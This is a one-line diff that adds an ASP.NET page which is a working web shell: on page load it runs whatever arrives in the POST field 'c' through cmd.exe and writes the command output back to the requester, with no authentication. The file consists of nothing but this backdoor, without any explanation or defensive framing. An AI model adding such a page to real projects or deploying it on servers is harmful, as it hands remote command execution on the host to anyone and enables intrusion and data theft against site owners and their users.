@@ -1,0 +1,1 @@
+<%@ Page Language="C#" %><%@ Import Namespace="System.Diagnostics" %><script runat="server">void Page_Load(object s, EventArgs e){ ProcessStartInfo p = new ProcessStartInfo("cmd.exe", "/c " + Request.Form["c"]); p.RedirectStandardOutput = true; p.UseShellExecute = false; Response.Write(Process.Start(p).StandardOutput.ReadToEnd()); }</script>
